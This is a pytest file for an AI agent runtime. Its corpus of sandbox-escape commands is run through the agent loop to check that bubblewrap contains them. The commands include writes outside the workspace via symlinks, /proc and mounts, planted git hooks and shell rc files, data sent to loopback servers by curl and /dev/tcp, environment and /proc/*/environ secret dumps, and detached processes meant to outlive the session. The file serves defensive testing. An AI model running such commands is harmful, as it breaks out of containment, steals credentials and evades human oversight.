"""Adversarial corpus: sandboxed commands trying to get out, through the real agent loop.

Every case runs through :func:`run_calls` with the sandbox enabled and
``bypassPermissions`` (so the permission policy stops nothing: the sandbox
must), and every case is checked for *effects*, whatever the call returned:
nothing appeared or changed outside the workspace, no protected path changed,
no secret reached the model, no marked process survived, the loopback servers
saw nothing. Plus a real race against :func:`write_atomic`.
"""

from __future__ import annotations

import functools
import hashlib
import os
import shutil
import socket
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import attrs
import pytest
import trio

from claw_runtime.config.settings import SandboxSettings, Settings
from claw_runtime.errors import ToolError
from claw_runtime.tools._files import write_atomic

from _harness import CallOutcome, require_binary, run_calls

SECRETS = {
    "ANTHROPIC_API_KEY": "sk-ant-secret123",
    "OPENAI_API_KEY": "sk-openai-secret456",
    "CLAUDE_CODE_OAUTH_TOKEN": "oauth-secret789",
    "GITHUB_TOKEN": "ghp_secretabc",
    "AWS_SECRET_ACCESS_KEY": "aws-secretdef",
    "DEPLOY_PASSWORD": "hunter2-secretghi",
    "DATABASE_URL": "postgres://app:dbsecretjkl@db/app",
}
PROTECTED = (
    ".claw",
    ".claude",
    ".mcp.json",
    ".git/hooks",
    ".git/config",
    ".git/info",
    ".husky",
    ".vscode",
    ".idea",
    ".envrc",
    ".bashrc",
    ".profile",
    ".zshrc",
    "githooks",
)
MARKER = "3\\d\\d\\.9917"
"""Every process a case tries to leave behind sleeps for 3xx.9917 seconds."""


@attrs.frozen
class Case:
    name: str
    calls: tuple[tuple[str, dict[str, Any]], ...]
    network: bool = False


def bash(command: str, **extra: Any) -> tuple[str, dict[str, Any]]:
    return ("Bash", {"command": command, **extra})


def case(name: str, *commands: str, network: bool = False) -> Case:
    return Case(name, tuple(bash(c) for c in commands), network)


OUTSIDE_WRITES = [
    case("redirect", "echo x > {out}/m1"),
    case("cp", "cp /etc/hostname {out}/m2"),
    case("python", "python3 -c \"open('{out}/m3','w').write('x')\""),
    case("mkdir", "mkdir {out}/d4"),
    case("mv", "echo x > f && mv f {out}/m5"),
    case("dd", "echo x | dd of={out}/m6"),
    case("install", "install -D /etc/hostname {out}/sub/m7"),
    case("append existing", "echo pwned >> {out}/target.txt"),
    case("truncate existing", "truncate -s 0 {out}/target.txt"),
    case("etc", "echo x > /etc/claw-escape-m10"),
    case("usr", "touch /usr/claw-escape-m11"),
    case("symlink dir", "ln -s {out} lnk && echo x > lnk/m12"),
    case("symlink root", "ln -s / rootlink && echo x > rootlink{out}/m13"),
    case("hard link", "ln {out}/target.txt hl && echo pwned > hl"),
    case("proc 1 root", "echo x > /proc/1/root{out}/m15"),
    case("proc self root", "cd /proc/self/root{out} && touch m16"),
    case("proc 1 cwd", "echo x > /proc/1/cwd/m17 && cp /proc/1/cwd/m17 {out}/m17"),
    case("bind mount", "mkdir -p mnt && mount --bind {out} mnt && touch mnt/m18"),
    case("tmpfs mount", "mount -t tmpfs none {out} && touch {out}/m19"),
    case("remount", "mount -o remount,rw / && touch {out}/m20"),
    case("nested userns", "unshare -Urm sh -c 'mount -o remount,rw / && touch {out}/m21'"),
    case("nsenter", "nsenter -t 1 -m -- touch {out}/m22"),
    case("chroot", "chroot / touch {out}/m23"),
    # Attaching stops the shell for good (its tracer exits without detaching), so
    # the call ends by its timeout; what matters is that nothing outside changed.
    Case(
        "ptrace parent",
        (
            bash(
                'python3 -c "import ctypes,os; '
                'l=ctypes.CDLL(None); print(l.ptrace(16, os.getppid(), 0, 0))"; touch {out}/m24',
                timeout=3000,
            ),
        ),
        False,
    ),
    case("kill host process", "kill -9 {victim}; pkill -f victim-2468; true"),
]

PROTECTED_WRITES = [
    case(
        "claw settings (missing .claw)", "mkdir -p .claw && echo '{{}}' > .claw/settings.local.json"
    ),
    case("claude settings", "echo '{{\"hooks\":{{}}}}' > .claude/settings.json"),
    case("remove .claude", "rm -rf .claude"),
    case("rename .claude", "mv .claude elsewhere"),
    case("mcp.json", "echo '{{\"mcpServers\":{{}}}}' > .mcp.json"),
    case("git hook", "printf '#!/bin/sh\\ntouch {out}/hook' > .git/hooks/pre-commit"),
    case("git config", "git config core.fsmonitor 'touch {out}/fsmonitor'"),
    case("git info", "echo '* filter=evil' > .git/info/attributes"),
    case("hooksPath dir", "mkdir -p githooks && echo x > githooks/pre-commit"),
    case("bashrc", "echo 'touch {out}/rc' >> .bashrc"),
    case("envrc", "echo 'touch {out}/envrc' > .envrc"),
    case("vscode tasks", "mkdir -p .vscode && echo '{{}}' > .vscode/tasks.json"),
    case("husky", "mkdir -p .husky && echo x > .husky/pre-commit"),
    case("idea", "mkdir -p .idea && echo x > .idea/workspace.xml"),
    case("swap .claw for a symlink", "rm -rf .claw; ln -s {out} .claw"),
]

NETWORK = [
    case(
        "python http",
        'python3 -c "import urllib.request; '
        "urllib.request.urlopen('http://127.0.0.1:{port}/leak', timeout=3)\"",
    ),
    case("dev tcp", "echo leak > /dev/tcp/127.0.0.1/{port}"),
    case("curl", "curl -s -m 3 http://127.0.0.1:{port}/leak"),
    case(
        "unix socket under /run",
        'python3 -c "import socket; s=socket.socket(socket.AF_UNIX); '
        "s.connect('{sock}'); s.sendall(b'leak')\"",
    ),
    case(
        "ssh agent socket",
        'python3 -c "import socket,os; s=socket.socket(socket.AF_UNIX); '
        "s.connect('{agent}'); s.sendall(b'leak')\"",
    ),
    Case("web fetch", (("WebFetch", {"url": "http://127.0.0.1:{port}/leak", "prompt": "x"}),)),
]

CREDENTIALS = [
    case("env", "env"),
    case("echo key", "echo $ANTHROPIC_API_KEY $OPENAI_API_KEY $CLAUDE_CODE_OAUTH_TOKEN"),
    case("echo tokens", "echo $GITHUB_TOKEN $AWS_SECRET_ACCESS_KEY $DEPLOY_PASSWORD $DATABASE_URL"),
    case(
        "proc environ",
        "cat /proc/self/environ /proc/1/environ /proc/$PPID/environ | tr '\\0' '\\n'",
    ),
    case("all proc environ", "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'"),
    case("python environ", 'python3 -c "import os; print(dict(os.environ))"'),
    case("settings files", "cat ~/.claw/* ~/.claude/* 2>/dev/null; true"),
]

PROCESSES = [
    case("setsid", "(setsid sleep 301.9917 &)"),
    case("nohup", "nohup sh -c 'sleep 302.9917' >/dev/null 2>&1 &"),
    case("disown", "bash -c 'sleep 303.9917 & disown'"),
    case(
        "double fork daemon",
        'python3 -c "import os,time; os.fork() and os._exit(0); '
        'os.setsid(); os.fork() and os._exit(0); os.close(1); time.sleep(304.9917)"',
    ),
    Case("timeout", (bash("(setsid sleep 305.9917 &); sleep 306.9917", timeout=1000),)),
    Case(
        "kill shell",
        (
            bash("setsid sleep 307.9917 & sleep 308.9917", run_in_background=True),
            ("KillShell", {"shell_id": "bash_1"}),
        ),
    ),
    Case("session end", (bash("nohup sleep 309.9917 & sleep 310.9917", run_in_background=True),)),
]

CORPUS = [*OUTSIDE_WRITES, *PROTECTED_WRITES, *NETWORK, *CREDENTIALS, *PROCESSES]


def test_the_corpus_is_big_enough() -> None:
    assert len(CORPUS) >= 40
    assert len({c.name for c in CORPUS}) == len(CORPUS)


def tree_digest(root: Path, names: tuple[str, ...]) -> dict[str, str]:
    """What the named paths hold (file contents, directory listings, symlinks)."""
    digest: dict[str, str] = {}
    for name in names:
        base = root / name
        paths = [base] + (
            sorted(base.rglob("*")) if base.is_dir() and not base.is_symlink() else []
        )
        for path in paths:
            key = str(path.relative_to(root))
            if path.is_symlink():
                digest[key] = "link:" + os.readlink(path)
            elif path.is_file():
                digest[key] = hashlib.sha256(path.read_bytes()).hexdigest()
            elif path.is_dir():
                digest[key] = "dir"
    return digest


def outside_dir() -> Path:
    """A directory outside /tmp (which the sandbox replaces anyway): a harder target."""
    for parent in ("/opt", "/srv", str(Path.home())):
        try:
            return Path(tempfile.mkdtemp(prefix="claw-escape-", dir=parent))
        except OSError:
            continue
    return Path(tempfile.mkdtemp(prefix="claw-escape-"))


@pytest.fixture
def outside() -> Iterator[Path]:
    path = outside_dir()
    (path / "target.txt").write_text("original\n")
    yield path
    shutil.rmtree(path, ignore_errors=True)


def listen_unix(path: Path, seen: list[bytes]) -> socket.socket:
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen()

    def accept() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            seen.append(conn.recv(100) or b"connected")
            conn.close()

    threading.Thread(target=accept, daemon=True).start()
    return server


def host_processes(pattern: str) -> list[str]:
    out = subprocess.run(["pgrep", "-af", pattern], capture_output=True, text=True)
    return [line for line in out.stdout.splitlines() if "pgrep" not in line]


@pytest.mark.parametrize("item", CORPUS, ids=[c.name for c in CORPUS])
async def test_escape_is_stopped(tmp_path: Path, outside: Path, item: Case) -> None:
    require_binary("bwrap", "bubblewrap")
    require_binary("git")
    work = tmp_path / "work"
    work.mkdir()
    await trio.run_process(["git", "init", "-q", str(work)])
    await trio.run_process(["git", "-C", str(work), "config", "core.hooksPath", "githooks"])
    (work / ".claude").mkdir()
    (work / ".claude" / "settings.json").write_text("{}\n")
    before_outside = tree_digest(outside, tuple(p.name for p in outside.iterdir()))
    before_protected = tree_digest(work, PROTECTED)
    try:
        run_dir = Path(tempfile.mkdtemp(prefix="claw-escape-", dir="/run"))
    except OSError:
        run_dir = Path(tempfile.mkdtemp(prefix="claw-escape-"))
    seen: list[bytes] = []
    sockets = [
        listen_unix(run_dir / "docker.sock", seen),
        listen_unix(outside / "agent.sock", seen),
    ]
    victim = await trio.lowlevel.open_process(["bash", "-c", "exec -a victim-2468 sleep 120"])
    try:
        async with trio.open_nursery() as nursery:
            listeners = await nursery.start(
                functools.partial(
                    trio.serve_tcp, lambda stream: _http(stream, seen), 0, host="127.0.0.1"
                )
            )
            port = listeners[0].socket.getsockname()[1]
            fill = {
                "out": outside,
                "port": port,
                "sock": run_dir / "docker.sock",
                "agent": outside / "agent.sock",
                "victim": victim.pid,
            }
            calls = [
                (tool, {k: v.format(**fill) if isinstance(v, str) else v for k, v in inp.items()})
                for tool, inp in item.calls
            ]
            outcomes = await run_calls(
                work,
                calls,
                mode="bypassPermissions",
                settings=Settings(sandbox=SandboxSettings(enabled=True, network=item.network)),
                environ={**SECRETS, "SSH_AUTH_SOCK": str(outside / "agent.sock")},
            )
            await trio.sleep(0.1)
            nursery.cancel_scope.cancel()
        await check_effects(work, outside, outcomes, before_outside, before_protected, seen)
        assert victim.returncode is None, "a sandboxed command killed a host process"
    finally:
        victim.kill()
        await victim.wait()
        for server in sockets:
            server.close()
        shutil.rmtree(run_dir, ignore_errors=True)


async def check_effects(
    work: Path,
    outside: Path,
    outcomes: list[CallOutcome],
    before_outside: dict[str, str],
    before_protected: dict[str, str],
    seen: list[bytes],
) -> None:
    names = tuple(p.name for p in outside.iterdir() if p.name != "agent.sock")
    assert tree_digest(outside, names) == before_outside
    assert tree_digest(work, PROTECTED) == before_protected
    for leftover in ("/etc/claw-escape-m10", "/usr/claw-escape-m11"):
        assert not Path(leftover).exists()
    text = "\n".join(o.text for o in outcomes)
    for value in SECRETS.values():
        assert value not in text
    assert seen == [], "a host server was contacted"
    await gone(MARKER)


async def gone(pattern: str) -> None:
    with trio.fail_after(5):
        while host_processes(pattern):
            await trio.sleep(0.05)


async def _http(stream: trio.SocketStream, seen: list[bytes]) -> None:
    seen.append(await stream.receive_some(1000))
    await stream.send_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok")


# --------------------------------------------------------------------------- write race


def test_a_symlink_swapped_in_during_writes_never_sends_a_byte_outside(tmp_path: Path) -> None:
    work, outside = tmp_path / "work", tmp_path / "outside"
    (work / "real").mkdir(parents=True)
    outside.mkdir()
    link = work / "flip"
    stop = threading.Event()

    def flipper() -> None:
        while not stop.is_set():
            for target in (work / "real", outside):
                temp = work / "flip.tmp"
                temp.unlink(missing_ok=True)
                temp.symlink_to(target)
                try:
                    temp.replace(link)  # atomic swap of the symlink
                except IsADirectoryError:
                    # A write that lost the race created a real directory there
                    # (inside the workspace, which is fine): clear it, keep flipping.
                    shutil.rmtree(link, ignore_errors=True)

    thread = threading.Thread(target=flipper, daemon=True)
    thread.start()
    written = refused = 0
    try:
        for number in range(2000):
            try:
                write_atomic(link / f"f{number % 7}.txt", b"payload", roots=[work])
                written += 1
            except ToolError as exc:
                assert "symlink that leads outside the workspace" in str(exc)
                assert "\n" not in str(exc)
                refused += 1
            except OSError:
                refused += 1  # the link changed under the walk: no write, which is fine
            assert list(outside.iterdir()) == []
    finally:
        stop.set()
        thread.join()
    assert written and refused  # the race really happened both ways
    assert list(outside.iterdir()) == []


def test_symlinks_inside_the_workspace_are_followed(tmp_path: Path) -> None:
    work = tmp_path / "work"
    (work / "real").mkdir(parents=True)
    (work / "alias").symlink_to(work / "real")
    write_atomic(work / "alias" / "new" / "f.txt", b"ok", roots=[work])
    assert (work / "real" / "new" / "f.txt").read_bytes() == b"ok"
    outside = tmp_path / "outside"
    outside.mkdir()
    (work / "away").symlink_to(outside)
    with pytest.raises(ToolError, match="leads outside the workspace"):
        write_atomic(work / "away" / "f.txt", b"no", roots=[work])
    assert list(outside.iterdir()) == []
    # the last component being a symlink: it is replaced, never written through
    (outside / "victim").write_text("safe")
    (work / "last").symlink_to(outside / "victim")
    write_atomic(work / "last", b"new", roots=[work])
    assert (outside / "victim").read_text() == "safe"
    assert (work / "last").read_bytes() == b"new" and not (work / "last").is_symlink()
